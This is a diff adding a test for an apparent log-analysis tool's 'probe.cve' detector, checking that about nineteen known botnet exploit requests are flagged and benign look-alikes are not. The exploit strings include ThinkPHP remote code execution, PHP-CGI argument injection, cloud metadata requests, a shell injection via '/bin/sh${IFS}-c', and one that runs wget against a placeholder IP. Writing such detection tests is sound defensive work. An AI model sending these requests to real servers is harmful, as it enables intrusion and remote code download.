@@ -189,6 +189,36 @@ test('probe.cve: exploits in the User-Agent count with ua.scanner disabled, and 
   assert.equal(withoutCve.verdict, 'clean');
 });
 
+test('probe.cve: one request each of the exploits botnets send every server, and none of their look-alikes', () => {
+  const exploits = [
+    'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x HTTP/1.1',
+    'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1',
+    'POST /ws/v1/cluster/apps/new-application HTTP/1.1',
+    'GET /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1',
+    'POST /api/jsonws/invoke HTTP/1.1',
+    'GET /mifs/.;/services/LogService HTTP/1.1',
+    'GET /tmUnblock.cgi HTTP/1.1',
+    'GET /cgi-bin/mainfunction.cgi?action=login&keyPath=%27%0A/bin/sh${IFS}-c HTTP/1.1',
+    'GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/x HTTP/1.1',
+    'GET /developmentserver/metadatauploader HTTP/1.1',
+    'POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
+    'GET /index.php?lang=../../../../usr/local/lib/php/pearcmd&+config-create+/&/x+/tmp/a.php HTTP/1.1',
+    'GET /?XDEBUG_SESSION_START=phpstorm HTTP/1.1',
+    'GET /?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php> HTTP/1.1',
+    'GET /?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1',
+    'GET /fetch?u=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F HTTP/1.1',
+    'GET /api/v2/cmdb/system/admin HTTP/1.1',
+    'GET /v1.24/containers/json HTTP/1.1',
+    'GET /s/1/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties HTTP/1.1',
+  ];
+  for (const request of exploits) {
+    const d = judgeOne([http({ request, status: 404 })]).byId.get('probe.cve');
+    assert.equal(d?.fired, true, request);
+  }
+  const benign = ['GET /search?q=thinkphp+invoke+function HTTP/1.1', 'GET /docs/api/invoke HTTP/1.1', 'GET /products/containers/ HTTP/1.1', 'GET /blog/xdebug-tips HTTP/1.1', 'POST /api/v2/cmdb/assets HTTP/1.1'];
+  for (const request of benign) assert.equal(judgeOne([http({ request })]).byId.get('probe.cve')?.fired, false, request);
+});
+
 test('bruteforce.auth: with slowMinLoginPosts 0 slow guessing is not seen, and the explanation quotes the long window', async () => {
   const { resolveRules } = await import('../../halog/detect/rules.js');
   const lines = times(120, (i) => http({ request: 'POST /wp-login.php HTTP/1.1', ms: T0 + i * 20000 }));
